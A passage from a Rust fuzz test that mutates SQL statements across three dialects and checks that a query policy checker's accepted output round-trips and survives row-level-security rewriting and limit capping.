            .chain(DML_ONLY.iter().copied())
            .collect();
        let rules = [crate::sql::RlsRule {
            table: crate::sql::TableName::new(None, "t"),
            clause: "tenant_id = 1".to_string(),
        }];
        let mut rng = Rng::new(0x5EED_1234);
        let mut accepted = 0;
        for _ in 0..10_000 {
            let (seed_dialect, seed) = seeds[rng.below(seeds.len())];
            let dialect = if rng.below(4) == 0 {
                [Pg, My, Lite][rng.below(3)]
            } else {
                seed_dialect
            };
            let sql = mutate(&mut rng, seed);
            let policy = if rng.below(2) == 0 { READ_ONLY } else { DML };
            if let Ok(mut checked) = check(dialect, &sql, &policy) {
                accepted += 1;
                let printed = to_sql(&checked.statement);
                let again = check(dialect, &printed, &policy);
                assert!(again.is_ok(), "{sql:?} -> {printed:?}: {again:?}");
                let _ = apply_rls(&mut checked.statement, dialect, &rules, None);
                cap_limit(&mut checked.statement, dialect, 100);
                let _ = to_sql(&checked.statement);
            }
        }
        // The mutations must not all be rejected up front, or this would test only the parser.
        assert!(accepted > 500, "only {accepted} mutations were accepted");
    }
}
